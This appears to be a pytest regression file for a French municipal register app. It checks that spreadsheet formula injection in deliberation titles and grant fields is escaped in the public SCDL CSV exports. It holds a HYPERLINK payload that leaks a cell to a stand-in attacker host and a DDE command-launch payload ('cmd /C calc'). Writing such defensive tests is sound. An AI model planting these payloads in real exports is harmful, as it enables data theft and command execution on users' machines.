"""Finding 3: a title written to be executed by a spreadsheet reaches the public SCDL files as
text, and the files stay valid against the official schemas."""

import io

from registre.opendata.validate import validate_file

from ..clerk.conftest import item_url

LINK = '=HYPERLINK("http://attaquant.example/?"&A1;"Cliquez")'


def _download(client, path, tmp_path):
    response = client.get(path)
    assert response.status_code == 200
    out = tmp_path / "fichier.csv"
    out.write_bytes(b"".join(response.streaming_content))
    return out


def _rows(path):
    import csv

    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def test_a_published_title_is_text_in_the_deliberations_file(greffe, meeting, client, tmp_path):
    greffe.post(item_url(meeting, 2, "vote"), {"vote_kind": "show_of_hands", "unanimous": "on"})
    greffe.post(item_url(meeting, 2, "deliberation"), {"title": LINK, "actes_code": "7.5"})
    from registre.web.register.models import Deliberation

    deliberation = Deliberation.objects.get(item__meeting=meeting)
    assert greffe.post(f"/greffe/deliberations/{deliberation.pk}/publier/").status_code == 302
    out = _download(client, "/donnees/scdl-deliberations.csv", tmp_path)
    titles = [row["DELIB_OBJET"] for row in _rows(out)]
    assert "'" + LINK in titles and LINK not in titles
    assert validate_file("deliberations", out) == []


def test_an_agreement_object_is_text_in_the_grants_file(client_for, demo, client, tmp_path):
    officer = client_for("subventions")
    response = officer.post(
        "/subventions/nouvelle/",
        {
            "deliberation": demo["deliberation"].pk,
            "reference": "2021/CSV-1",
            "beneficiary_name": "@SUM(1+1)*cmd|' /C calc'!A0",
            "beneficiary_siret": "732 829 320 00074",
            "object": LINK,
            "amount": "1000",
            "cap": "1000",
            "financial_year": "2021",
            "signed_on": "2021-10-20",
            "valid_until": "2022-10-31",
            "share_at_signature": "100",
        },
    )
    assert response.status_code == 302
    out = _download(client, "/donnees/scdl-subventions.csv", tmp_path)
    row = next(r for r in _rows(out) if r["objet"].endswith('Cliquez")'))
    assert row["objet"] == "'" + LINK
    assert row["nomBeneficiaire"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["montant"] == "1000"
    assert validate_file("subventions", out) == []
